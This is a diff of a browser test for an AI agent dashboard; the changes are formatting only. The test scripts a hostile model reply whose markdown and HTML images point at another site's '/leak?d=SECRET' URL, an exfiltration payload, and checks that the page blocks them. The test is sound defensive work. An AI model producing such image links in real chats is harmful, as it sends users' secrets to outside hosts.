@@ -69,7 +69,11 @@ describe('the dashboard against a hostile reply and a hostile site, in Chromium'
     const toml = `name = "leaker"\n\n[model]\nprovider = "openai"\nmodel = "gpt-4o"\nbase_url = "${model.url}"\n`;
     await harness.host.kernel.spawn(parseManifest(toml, { source: 'leaker.toml' }).manifest);
     const leak = `${other.url}/leak?d=SECRET`;
-    model.script([{ text: `Here is the chart:\n\n![chart](${leak}-markdown)\n\n<img alt="raw" src="${leak}-html">\n\n![inline](data:image/gif;base64,R0lGODlhAQABAAAAACw=)\n` }]);
+    model.script([
+      {
+        text: `Here is the chart:\n\n![chart](${leak}-markdown)\n\n<img alt="raw" src="${leak}-html">\n\n![inline](data:image/gif;base64,R0lGODlhAQABAAAAACw=)\n`,
+      },
+    ]);
     await page.goto(`${harness.server.url}/#/agents/leaker/chat`);
     await visible(page.getByRole('heading', { name: /Chat with leaker/ }));
     await page.getByRole('textbox', { name: 'Message' }).fill('Show me the chart');
@@ -91,7 +95,7 @@ describe('the dashboard against a hostile reply and a hostile site, in Chromium'
     expect(await reply.locator('img').getAttribute('src')).toMatch(/^data:image\/gif;/);
   });
 
-  it('the page\'s policy refuses an image from another site, whoever adds it', async () => {
+  it("the page's policy refuses an image from another site, whoever adds it", async () => {
     await page.goto(`${harness.server.url}/#/agents`);
     await visible(page.getByRole('heading', { name: 'Agents' }));
     // Run in the page (a string: the tests are compiled without the DOM's types).
